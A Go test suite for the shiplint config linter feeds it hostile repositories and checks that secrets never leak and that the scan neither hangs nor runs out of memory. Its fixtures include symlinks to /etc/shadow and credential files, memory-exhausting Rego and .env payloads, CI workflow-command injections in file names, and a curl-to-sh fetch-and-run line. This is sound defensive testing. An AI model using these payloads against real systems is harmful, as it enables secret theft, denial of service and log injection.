package main

// Hostile repositories (issue 12): every attack seen on shiplint, built at
// test time, run against the real binary in a process of its own. Each case
// plants a canary value outside the scanned tree (in a file, in $HOME, in
// the environment) and checks that it appears in no output format and not
// on stderr; that the scan ends (a hang is killed after hangLimit); that the
// process stays under a gigabyte of memory; and that the attack is reported
// as a finding at its line or refused with exit 2, never passed in silence.
// docs/untrusted-input.md is the design these cases hold shiplint to.

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// asCLI, set in a child's environment, makes the test binary run as
// shiplint (see TestMain).
const asCLI = "SHIPLINT_TEST_AS_CLI"

// asCLIPeak names the file a child writes its peak memory to.
const asCLIPeak = "SHIPLINT_TEST_PEAK_FILE"

// writePeakMemory writes this process's peak resident memory (VmHWM, in
// KiB) to path. getrusage's ru_maxrss would not do: Linux carries it over
// exec from the forking test binary, so it reports the parent's size.
func writePeakMemory(path string) {
	if path == "" {
		return
	}
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			os.WriteFile(path, []byte(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB"))), 0o644)
		}
	}
}

// canary is the secret every case plants outside the tree.
const canary = "CANARY-5f3c9e1d-never-print-me"

// memLimitKB is the peak resident memory no hostile input may exceed.
const memLimitKB = 1 << 20 // 1 GiB

// hangLimit only detects a hang (a FIFO, an endless read): speed is
// measured in docs/performance.md, not asserted here.
const hangLimit = 3 * time.Minute

// formats are every report format, each written to its own file.
var formats = []string{"json", "sarif", "github", "junit", "gitlab", "text"}

// hostileResult is one child run: exit code, the text report on stdout,
// stderr, every other format by name, and the resources it used.
type hostileResult struct {
	code    int
	stdout  string
	stderr  string
	reports map[string]string
	maxRSS  int64 // KiB
	elapsed time.Duration
	parsed  jsonOut
}

// all is every byte the run printed or wrote.
func (r hostileResult) all() string {
	var b strings.Builder
	b.WriteString(r.stdout)
	b.WriteString(r.stderr)
	for _, f := range formats {
		b.WriteString(r.reports[f])
	}
	return b.String()
}

// hostileScan runs `shiplint scan` in a child process with every format,
// the canary in its environment and a $HOME holding the canary, and checks
// what every case must hold.
func hostileScan(t *testing.T, env *hostileEnv, args ...string) hostileResult {
	t.Helper()
	out := t.TempDir()
	full := []string{"scan"}
	for _, f := range formats[:len(formats)-1] {
		full = append(full, "-f", f+"="+filepath.Join(out, f))
	}
	full = append(full, "-f", "text")
	full = append(full, args...)
	r := runChild(t, env, full...)
	r.reports = map[string]string{}
	for _, f := range formats[:len(formats)-1] {
		b, _ := os.ReadFile(filepath.Join(out, f))
		r.reports[f] = string(b)
	}
	if r.reports["json"] != "" {
		if err := json.Unmarshal([]byte(r.reports["json"]), &r.parsed); err != nil {
			t.Errorf("JSON report does not parse: %v", err)
		}
	}
	checkNoLeak(t, r)
	return r
}

// runChild runs the test binary as shiplint with args.
func runChild(t *testing.T, env *hostileEnv, args ...string) hostileResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), hangLimit)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], args...)
	cmd.Dir = env.cwd
	peak := filepath.Join(t.TempDir(), "peak")
	cmd.Env = append(os.Environ(), asCLI+"=1", asCLIPeak+"="+peak, "HOME="+env.home,
		"AWS_SECRET_ACCESS_KEY="+canary, "GITHUB_TOKEN="+canary)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	start := time.Now()
	err := cmd.Run()
	r := hostileResult{stdout: stdout.String(), stderr: stderr.String(), elapsed: time.Since(start)}
	if ctx.Err() != nil {
		t.Fatalf("shiplint %s did not return within %v: it hangs", strings.Join(args, " "), hangLimit)
	}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(peak); err == nil {
		r.maxRSS, _ = strconv.ParseInt(string(b), 10, 64)
	} else if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		r.maxRSS = ru.Maxrss // killed before it could tell: an upper bound
	}
	t.Logf("exit %d in %v, peak RSS %d MiB", r.code, r.elapsed.Round(time.Millisecond), r.maxRSS>>10)
	if r.maxRSS > memLimitKB {
		t.Errorf("peak RSS %d MiB is over the 1 GiB budget", r.maxRSS>>10)
	}
	if r.code < 0 || r.code > 2 {
		t.Errorf("exit %d (crashed?), stderr:\n%s", r.code, lastLines(r.stderr, 20))
	}
	return r
}

// checkNoLeak fails when the canary, a raw control character or a
// workflow command shiplint did not write itself reaches any output.
func checkNoLeak(t *testing.T, r hostileResult) {
	t.Helper()
	if strings.Contains(r.all(), canary) {
		t.Errorf("the canary leaked into the output:\n%s", excerpt(r.all(), canary))
	}
	for name, text := range map[string]string{"text": r.stdout, "stderr": r.stderr} {
		if i := strings.IndexFunc(text, func(c rune) bool { return c < 0x20 && c != '\n' || c == 0x7f || c == 0x1b }); i >= 0 {
			t.Errorf("%s output holds a raw control character %q: %q", name, text[i], excerpt(text, text[i:i+1]))
		}
		for _, line := range strings.Split(text, "\n") {
			if workflowCommand(line) {
				t.Errorf("%s output line would be a workflow command on a CI runner: %q", name, line)
			}
		}
	}
	for _, line := range strings.Split(r.reports["github"], "\n") {
		if workflowCommand(line) && !ownCommand(line) {
			t.Errorf("github output holds a workflow command shiplint did not write: %q", line)
		}
	}
}

// workflowCommand reports whether a CI runner would take the line as a
// command (GitHub trims leading white space before looking).
func workflowCommand(line string) bool {
	l := strings.TrimLeft(line, " \t")
	return strings.HasPrefix(l, "::") || strings.HasPrefix(l, "##[") || strings.HasPrefix(l, "##vso[")
}

// ownCommand is a line the github format writes on purpose.
func ownCommand(line string) bool {
	for _, p := range []string{"::error file=", "::warning file=", "::notice file=", "::error title=shiplint", "::warning title=shiplint", "::notice title=shiplint", "::group::", "::endgroup::"} {
		if strings.HasPrefix(line, p) {
			// A file named "…\n::error file=README.md…" must stay inside
			// the properties of shiplint's own command, escaped.
			return !strings.HasPrefix(line[strings.Index(line, " ")+1:], "file=README.md")
		}
	}
	return false
}

func excerpt(s, sub string) string {
	i := strings.Index(s, sub)
	if i < 0 {
		return ""
	}
	return s[max(0, i-200):min(len(s), i+200)]
}

// hostileEnv is a scan root beside an outside world: a $HOME with cloud
// credentials and a directory of files outside the root, all holding the
// canary.
type hostileEnv struct {
	root    string // the scanned tree
	outside string // a directory beside it
	home    string
	cwd     string
}

func newHostileEnv(t *testing.T, files map[string]string) *hostileEnv {
	t.Helper()
	base := t.TempDir()
	e := &hostileEnv{
		root: filepath.Join(base, "work", "repo"), outside: filepath.Join(base, "outside"),
		home: filepath.Join(base, "home"), cwd: base,
	}
	write(t, filepath.Join(e.home, ".aws", "credentials"), "[default]\naws_secret_access_key = "+canary+"\n")
	write(t, filepath.Join(e.outside, "secret.yaml"), "services:\n  base:\n    image: "+canary+"\n    privileged: true\n    environment:\n      TOKEN: "+canary+"\n")
	write(t, filepath.Join(e.outside, "Dockerfile"), "FROM "+canary+"\nRUN echo "+canary+"\n")
	write(t, filepath.Join(e.root, ".git", "HEAD"), "ref: refs/heads/main\n")
	for name, content := range files {
		write(t, filepath.Join(e.root, name), content)
	}
	return e
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

func mkfifo(t *testing.T, path string) {
	t.Helper()
	if err := syscall.Mkfifo(path, 0o644); err != nil {
		t.Skipf("cannot make a FIFO here: %v", err)
	}
}

// finding is one expected finding: rule at path:line.
type want struct {
	rule string
	path string
	line int
}

func (w want) String() string { return fmt.Sprintf("%s at %s:%d", w.rule, w.path, w.line) }

// expect checks exit code and that each wanted finding is in the JSON report.
func expect(t *testing.T, r hostileResult, code int, wants ...want) {
	t.Helper()
	if r.code != code {
		t.Errorf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", r.code, code, lastLines(r.stdout, 30), lastLines(r.stderr, 10))
	}
	for _, w := range wants {
		if !hasFinding(r.parsed, w.rule, w.path, w.line) {
			t.Errorf("missing %v; findings: %+v", w, r.parsed.Findings)
		}
	}
}

// messageOf returns the message of the first finding of rule in path.
func messageOf(r hostileResult, rule, path string) string {
	for _, f := range r.parsed.Findings {
		if f.RuleID == rule && strings.HasSuffix(f.Path, path) {
			return f.Message
		}
	}
	return ""
}

const privilegedPod = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: c\n      image: nginx:1.27\n      securityContext:\n        privileged: true\n"

// rulesOnly pins the rules a case runs, so the pack can grow.
const rulesOnly = "only: [KS001, DC001, DF001, syntax-error, file-not-scanned]\n"

// 1. Reading outside the tree.

func TestHostileSymlinkedFilesAreRefused(t *testing.T) {
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "pod.yaml": privilegedPod})
	symlink(t, "/proc/self/environ", filepath.Join(e.root, "Dockerfile.environ"))
	symlink(t, "/etc/shadow", filepath.Join(e.root, "Dockerfile.shadow"))
	symlink(t, filepath.Join(e.outside, "Dockerfile"), filepath.Join(e.root, "Dockerfile.outside"))
	symlink(t, filepath.Join(e.outside, "secret.yaml"), filepath.Join(e.root, "k8s", "secret.yaml"))
	symlink(t, filepath.Join(e.outside, "no-such-file"), filepath.Join(e.root, "Dockerfile.missing"))
	symlink(t, "/dev/zero", filepath.Join(e.root, "zero.yaml"))
	r := hostileScan(t, e, e.root)
	expect(t, r, 1,
		want{"KS001", "pod.yaml", 10},
		want{"file-not-scanned", "Dockerfile.environ", 1},
		want{"file-not-scanned", "Dockerfile.shadow", 1},
		want{"file-not-scanned", "Dockerfile.outside", 1},
		want{"file-not-scanned", "k8s/secret.yaml", 1},
		want{"file-not-scanned", "zero.yaml", 1},
	)
	// The words do not tell an existing outside file from a missing one.
	shadow := strings.ReplaceAll(messageOf(r, "file-not-scanned", "Dockerfile.shadow"), "shadow", "X")
	outside := strings.ReplaceAll(messageOf(r, "file-not-scanned", "Dockerfile.outside"), "outside", "X")
	if shadow == "" || shadow != outside {
		t.Errorf("refusals of an existing and another outside file differ: %q vs %q", shadow, outside)
	}
}

func TestHostileDotEnvOutsideIsNotRead(t *testing.T) {
	for name, target := range map[string]func(e *hostileEnv) string{
		"credentials": func(e *hostileEnv) string { return filepath.Join(e.home, ".aws", "credentials") },
		"dev-zero":    func(*hostileEnv) string { return "/dev/zero" },
		"environ":     func(*hostileEnv) string { return "/proc/self/environ" },
	} {
		t.Run(name, func(t *testing.T) {
			e := newHostileEnv(t, map[string]string{
				".shiplint.yaml": rulesOnly,
				"compose.yaml":   "services:\n  web:\n    image: nginx:${AWS_SECRET_ACCESS_KEY:-1.27}\n    environment:\n      KEY: ${aws_secret_access_key}\n    privileged: true\n",
			})
			symlink(t, target(e), filepath.Join(e.root, ".env"))
			r := hostileScan(t, e, e.root)
			expect(t, r, 1, want{"file-not-scanned", "compose.yaml", 1}, want{"DC001", "compose.yaml", 6})
		})
	}
}

func TestHostileExtendsOutsideIsNotRead(t *testing.T) {
	e := newHostileEnv(t, map[string]string{
		".shiplint.yaml": rulesOnly,
		"app/compose.yaml": "services:\n" +
			"  zero:\n    image: a:1\n    extends: {file: ../../../../../../../../dev/zero, service: x}\n" +
			"  leak:\n    image: b:1\n    extends:\n      file: ../../../outside/secret.yaml\n      service: base\n" +
			"  missing:\n    image: c:1\n    extends: {file: ../../../outside/no-such.yaml, service: base}\n",
	})
	r := hostileScan(t, e, e.root)
	expect(t, r, 1,
		want{"file-not-scanned", "app/compose.yaml", 4},
		want{"file-not-scanned", "app/compose.yaml", 8},
		want{"file-not-scanned", "app/compose.yaml", 12},
	)
	// Nothing from the outside file was merged in (it is privileged).
	if hasFinding(r.parsed, "DC001", "app/compose.yaml", 0) {
		t.Errorf("the outside file's service was merged: %+v", r.parsed.Findings)
	}
	var lines []string
	for _, f := range r.parsed.Findings {
		if f.RuleID == "file-not-scanned" {
			lines = append(lines, strings.NewReplacer("secret.yaml", "X", "no-such.yaml", "X", "leak", "S", "missing", "S").Replace(f.Message))
		}
	}
	if len(lines) == 3 && lines[1] != lines[2] {
		t.Errorf("an existing and a missing outside file are told apart: %q vs %q", lines[1], lines[2])
	}
}

func TestHostilePolicyLinkIsRefused(t *testing.T) {
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "pod.yaml": privilegedPod})
	policies := filepath.Join(e.root, "policies")
	symlink(t, "/dev/zero", filepath.Join(policies, "x.rego"))
	symlink(t, "/proc/self/environ", filepath.Join(policies, "y.rego"))
	r := hostileScan(t, e, "--policy", policies, e.root)
	if r.code != 2 || !strings.Contains(r.stderr, "x.rego") {
		t.Errorf("exit %d, stderr %q: want exit 2 naming x.rego", r.code, r.stderr)
	}
}

// 2. Out of memory from tiny inputs.

func TestHostileDoublingDotEnv(t *testing.T) {
	var env strings.Builder
	env.WriteString("V0=aaaaaaaaaaaaaaaa\n")
	for i := 1; i <= 40; i++ {
		fmt.Fprintf(&env, "V%d=${V%d}${V%d}\n", i, i-1, i-1)
	}
	e := newHostileEnv(t, map[string]string{
		".shiplint.yaml": rulesOnly,
		".env":           env.String(),
		"compose.yaml":   "services:\n  web:\n    image: nginx:1.27\n    environment:\n      X: ${V40}\n    privileged: true\n",
		"pod.yaml":       privilegedPod,
	})
	r := hostileScan(t, e, e.root)
	if r.code != 1 && r.code != 2 {
		t.Errorf("exit %d", r.code)
	}
	if !hasFinding(r.parsed, "KS001", "pod.yaml", 10) {
		t.Errorf("the other file's findings were lost: %+v", r.parsed.Findings)
	}
	if !strings.Contains(r.reports["json"], "compose.yaml") {
		t.Errorf("the expansion budget is not reported against compose.yaml or its .env")
	}
}

func TestHostileHugeHeredoc(t *testing.T) {
	var b strings.Builder
	b.WriteString("FROM alpine:3.20\nRUN <<EOF\n")
	for b.Len() < 7<<20 {
		b.WriteString("echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa && ls -la /tmp | grep x\n")
	}
	b.WriteString("EOF\n")
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "Dockerfile": b.String()})
	r := hostileScan(t, e, e.root)
	expect(t, r, 1, want{"DF001", "Dockerfile", 1})
}

func TestHostileExtendsOneFileManyWays(t *testing.T) {
	var big strings.Builder
	// A small base service in a 4 MB file: what made 6.5 GB was reading
	// and parsing the file once per spelling, not what is inherited.
	big.WriteString("services:\n  base:\n    image: nginx:1.27\n    privileged: true\n  filler:\n    image: nginx:1.27\n    environment:\n")
	for i := 0; big.Len() < 4<<20; i++ {
		fmt.Fprintf(&big, "      K%d: vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv\n", i)
	}
	var c strings.Builder
	c.WriteString("services:\n")
	for i := range 60 {
		// ../app/big.yml, ../app/./big.yml, ../app/x/../big.yml, … all one file.
		spelled := "../app/" + strings.Repeat("./", i%7) + strings.Repeat("x/../", i/7) + "big.yml"
		fmt.Fprintf(&c, "  s%d:\n    extends: {file: %q, service: base}\n", i, spelled)
	}
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "app/big.yml": big.String(), "app/compose.yaml": c.String()})
	os.MkdirAll(filepath.Join(e.root, "app", "x"), 0o755)
	r := hostileScan(t, e, e.root)
	expect(t, r, 1)
	// Every service inherits privileged: true, found at its extends line.
	n := 0
	for _, f := range r.parsed.Findings {
		if f.RuleID == "DC001" && strings.HasSuffix(f.Path, "app/compose.yaml") {
			n++
		}
		if f.RuleID == "file-not-scanned" || f.RuleID == "syntax-error" {
			t.Errorf("unexpected %s: %s", f.RuleID, f.Message)
		}
	}
	if n != 60 {
		t.Errorf("%d DC001 findings in app/compose.yaml, want 60 (one per service)", n)
	}
}

// 3. User Rego.

// hostilePolicy is a user rule for Dockerfiles whose body is given.
func hostilePolicy(id, body string) string {
	return "# METADATA\n# title: Hostile\n# custom:\n#   id: " + id + "\n#   severity: low\npackage shiplint.dockerfile.hostile_" + strings.ToLower(id) + "\n\n" + body
}

func TestHostileRegoBuiltinsAreBounded(t *testing.T) {
	cases := map[string]string{
		// 1,000 a's, each replaced by 1,000 (10^6), each of those by the 10^6: 10^12 bytes.
		"nested-replace": "deny contains {\"msg\": \"x\", \"path\": []} if {\n\tk := \"" + strings.Repeat("a", 1000) + "\"\n\tm := replace(k, \"a\", k)\n\ts := replace(m, \"a\", m)\n\tcount(s) > 0\n}\n",
		"range":          "deny contains {\"msg\": \"x\", \"path\": []} if {\n\tcount(numbers.range(1, 2e9)) > 0\n}\n",
		"doubling-concat": "double(s) := concat(\"\", [s, s])\n\ndeny contains {\"msg\": \"x\", \"path\": []} if {\n\ts := double(double(double(double(double(double(double(double(double(double(\"" + strings.Repeat("a", 1<<16) +
			"\"))))))))))\n\tt := double(double(double(double(double(double(double(double(double(double(s))))))))))\n\tcount(t) > 0\n}\n",
		"comprehension": "deny contains {\"msg\": \"x\", \"path\": []} if {\n\tbig := concat(\"\", [\"" + strings.Repeat("a", 1<<16) + "\" | some _ in numbers.range(1, 128)])\n\txs := [concat(\"\", [big, big]) | some _ in numbers.range(1, 100000)]\n\tcount(xs) > 0\n}\n",
		// Go's fmt refuses widths over 10^6, but 4,000 of them make 4 GB.
		"sprintf-width": "deny contains {\"msg\": \"x\", \"path\": []} if {\n\ts := sprintf(\"" + strings.Repeat("%0999999d", 4000) + "\", [x | some x in numbers.range(1, 4000)])\n\tcount(s) > 0\n}\n",
	}
	for name, body := range cases {
		t.Run(name, func(t *testing.T) {
			e := newHostileEnv(t, map[string]string{"Dockerfile": "FROM alpine:3.20\n", "policy/p.rego": hostilePolicy("HOST1", body)})
			write(t, filepath.Join(e.root, ".shiplint.yaml"), "only: [DF001, HOST1]\n")
			r := hostileScan(t, e, "--policy", filepath.Join(e.root, "policy"), filepath.Join(e.root, "Dockerfile"))
			if !hasFinding(r.parsed, "DF001", "Dockerfile", 1) {
				t.Errorf("the built-in rule's finding was lost: %+v\n%s", r.parsed.Findings, r.stderr)
			}
			if r.code != 2 {
				t.Errorf("exit %d, want 2: a user rule that hits a limit is an evaluation error", r.code)
			}
		})
	}
}

func TestHostileRegoCannotChangeBuiltins(t *testing.T) {
	for _, pkg := range []string{"shiplint.dockerfile.root_user", "shiplint.lib.evil", "shiplint_engine", "shiplint.dockerfile"} {
		t.Run(pkg, func(t *testing.T) {
			policy := "# METADATA\n# title: Hostile\n# custom:\n#   id: HOST2\n#   severity: low\npackage " + pkg + "\n\nnonroot_base if true\n\ndeny contains {\"msg\": \"x\", \"path\": []} if false\n"
			e := newHostileEnv(t, map[string]string{"Dockerfile": "FROM alpine:3.20\n", "policy/p.rego": policy})
			r := hostileScan(t, e, "--policy", filepath.Join(e.root, "policy"), filepath.Join(e.root, "Dockerfile"))
			if r.code != 2 || !strings.Contains(r.stderr, "p.rego") {
				t.Errorf("exit %d, stderr %q: want a load error naming p.rego", r.code, r.stderr)
			}
		})
	}
}

// 4. Workflow-command injection (checkNoLeak asserts the lines).

func TestHostileNamesAndContentsCannotInjectCommands(t *testing.T) {
	e := newHostileEnv(t, map[string]string{
		".shiplint.yaml": rulesOnly,
		"Dockerfile.a\n::error file=README.md,line=1::FAKE\nz": "FROM alpine:3.20\n",
		"::warning file=x,line=1::FAKE/Dockerfile":             "FROM alpine:3.20\nRUN curl -s https://x.example/\x1b[2J##[add-mask]FAKE | sh\n",
		"pod.yaml": strings.Replace(privilegedPod, "name: p\n", "name: \"p\\e[2J\\n::error::FAKE\\u202e\"\n", 1),
	})
	write(t, filepath.Join(e.root, ".shiplint.yaml"), "only: [KS001, DF001, DF003, syntax-error, file-not-scanned]\n")
	r := hostileScan(t, e, e.root)
	expect(t, r, 1, want{"KS001", "pod.yaml", 10}, want{"DF003", "Dockerfile", 2})
	if n := strings.Count(r.stdout, "DF001"); n != 2 {
		t.Errorf("%d DF001 lines in the text report, want 2 (one per Dockerfile):\n%s", n, r.stdout)
	}
}

func TestHostileEchoedConfigAndPolicyLines(t *testing.T) {
	e := newHostileEnv(t, map[string]string{
		"Dockerfile":         "FROM alpine:3.20\n",
		"policy/p.rego":      "package shiplint.dockerfile.x\n\t::error file=README.md::FAKE {\n",
		"bad/.shiplint.yaml": "\"\\n::error::FAKE\\e[2J\": true\n",
	})
	r := hostileScan(t, e, "--policy", filepath.Join(e.root, "policy"), e.root)
	if r.code != 2 {
		t.Errorf("broken policy: exit %d, want 2", r.code)
	}
	r = hostileScan(t, e, "--config", filepath.Join(e.root, "bad", ".shiplint.yaml"), e.root)
	if r.code != 2 || !strings.Contains(r.stderr, ".shiplint.yaml:1") {
		t.Errorf("unknown config key: exit %d, stderr %q", r.code, r.stderr)
	}
}

// 5. Silent passes.

func TestHostileSymlinkedRootIsScanned(t *testing.T) {
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "real/pod.yaml": privilegedPod})
	symlink(t, filepath.Join(e.root, "real"), filepath.Join(e.root, "deploy"))
	e.cwd = e.root
	r := hostileScan(t, e, "deploy")
	expect(t, r, 1, want{"KS001", "deploy/pod.yaml", 10})
}

func TestHostilePaddedFileIsAFinding(t *testing.T) {
	padded := privilegedPod + "# " + strings.Repeat("x", 2<<20) + "\n"
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "pod.yaml": padded})
	r := hostileScan(t, e, "--max-file-size", "1048576", "--fail-on", "high", e.root)
	expect(t, r, 1, want{"file-not-scanned", "pod.yaml", 1})
	for _, w := range []string{`"filesNotScanned": 1`, `"unknown": 1`} {
		if !strings.Contains(r.reports["json"], w) {
			t.Errorf("JSON summary lacks %s:\n%s", w, excerpt(r.reports["json"], `"summary"`))
		}
	}
}

func TestHostileConfigAboveTheRootIsIgnored(t *testing.T) {
	e := newHostileEnv(t, map[string]string{"pod.yaml": privilegedPod})
	os.RemoveAll(filepath.Join(e.root, ".git")) // no repository: the root is the boundary
	write(t, filepath.Join(filepath.Dir(e.root), ".shiplint.yaml"), "exclude: [\"**\"]\nfail-on: critical\ndisable: [KS001]\n")
	write(t, filepath.Join(e.cwd, ".shiplint.yaml"), "exclude: [\"**\"]\n")
	r := hostileScan(t, e, e.root)
	expect(t, r, 1, want{"KS001", "pod.yaml", 10})
}

func TestHostileBrokenDocumentDoesNotHideTheNext(t *testing.T) {
	stream := "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n---\napiVersion: v1\nkind: [unclosed\n---\n" + privilegedPod
	e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, "all.yaml": stream})
	r := hostileScan(t, e, "--fail-on", "critical", e.root)
	expect(t, r, 1, want{"syntax-error", "all.yaml", 7}, want{"KS001", "all.yaml", 18})
}

func TestHostileDirectoryNamedLikeHelp(t *testing.T) {
	for _, name := range []string{"h", "help"} {
		t.Run(name, func(t *testing.T) {
			e := newHostileEnv(t, map[string]string{".shiplint.yaml": rulesOnly, name + "/pod.yaml": privilegedPod})
			e.cwd = e.root
			r := hostileScan(t, e, name)
			expect(t, r, 1, want{"KS001", name + "/pod.yaml", 10})
		})
	}
}

func TestHostileFIFOsDoNotBlock(t *testing.T) {
	e := newHostileEnv(t, map[string]string{
		".shiplint.yaml": rulesOnly,
		"compose.yaml":   "services:\n  web:\n    image: nginx:1.27\n    extends: {file: pipe.yml, service: x}\n",
		"pod.yaml":       privilegedPod,
	})
	mkfifo(t, filepath.Join(e.root, ".env"))
	mkfifo(t, filepath.Join(e.root, "pipe.yml"))
	mkfifo(t, filepath.Join(e.root, "Dockerfile"))
	r := hostileScan(t, e, e.root)
	expect(t, r, 1,
		want{"KS001", "pod.yaml", 10},
		want{"file-not-scanned", "compose.yaml", 4},
		want{"file-not-scanned", "Dockerfile", 1},
	)
}

func TestHostileConfigInTheTree(t *testing.T) {
	t.Run("fifo", func(t *testing.T) {
		e := newHostileEnv(t, map[string]string{"pod.yaml": privilegedPod})
		mkfifo(t, filepath.Join(e.root, ".shiplint.yaml"))
		r := hostileScan(t, e, e.root)
		expect(t, r, 2)
	})
	t.Run("dev-zero", func(t *testing.T) {
		e := newHostileEnv(t, map[string]string{"pod.yaml": privilegedPod})
		symlink(t, "/dev/zero", filepath.Join(e.root, ".shiplint.yaml"))
		r := hostileScan(t, e, e.root)
		expect(t, r, 2)
	})
	t.Run("policies-outside", func(t *testing.T) {
		e := newHostileEnv(t, map[string]string{"pod.yaml": privilegedPod, ".shiplint.yaml": "policies: [../../outside]\n"})
		write(t, filepath.Join(e.outside, "p.rego"), hostilePolicy("HOST3", "deny contains {\"msg\": \""+canary+"\", \"path\": []} if true\n"))
		r := hostileScan(t, e, e.root)
		expect(t, r, 2)
		if !strings.Contains(r.stderr, ".shiplint.yaml:1") {
			t.Errorf("stderr %q does not name the config line", r.stderr)
		}
	})
	t.Run("max-file-size", func(t *testing.T) {
		e := newHostileEnv(t, map[string]string{"pod.yaml": privilegedPod, ".shiplint.yaml": "max-file-size: 10000000000\n"})
		r := hostileScan(t, e, e.root)
		expect(t, r, 2)
	})
}

// A token valid from 2026-06-01 (before today, after shiplint's fixed
// clock): the wall clock would call it valid, the fixed clock does not,
// and so the answer cannot change from one run to the next.
func TestHostileRegoSeesAFixedClock(t *testing.T) {
	enc := base64.RawURLEncoding.EncodeToString
	payload := fmt.Sprintf(`{"sub":"x","nbf":%d,"exp":%d}`, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC).Unix(), time.Now().Add(24*time.Hour).Unix())
	signing := enc([]byte(`{"alg":"HS256","typ":"JWT"}`)) + "." + enc([]byte(payload))
	mac := hmac.New(sha256.New, []byte("s3cret"))
	mac.Write([]byte(signing))
	token := signing + "." + enc(mac.Sum(nil))
	body := "deny contains {\"msg\": sprintf(\"valid=%v\", [valid]), \"path\": []} if {\n\t[valid, _, _] := io.jwt.decode_verify(\"" + token + "\", {\"secret\": \"s3cret\"})\n}\n"
	e := newHostileEnv(t, map[string]string{"Dockerfile": "FROM alpine:3.20\nUSER 1000\n", "policy/p.rego": hostilePolicy("HOST4", body)})
	write(t, filepath.Join(e.root, ".shiplint.yaml"), "only: [HOST4]\n")
	first := hostileScan(t, e, "--policy", filepath.Join(e.root, "policy"), e.root)
	if got := messageOf(first, "HOST4", "Dockerfile"); got != "valid=false" {
		t.Errorf("message %q, want valid=false (the fixed clock is before the token's nbf)", got)
	}
	second := hostileScan(t, e, "--policy", filepath.Join(e.root, "policy"), e.root)
	if first.reports["sarif"] != second.reports["sarif"] {
		t.Errorf("two runs differ")
	}
}
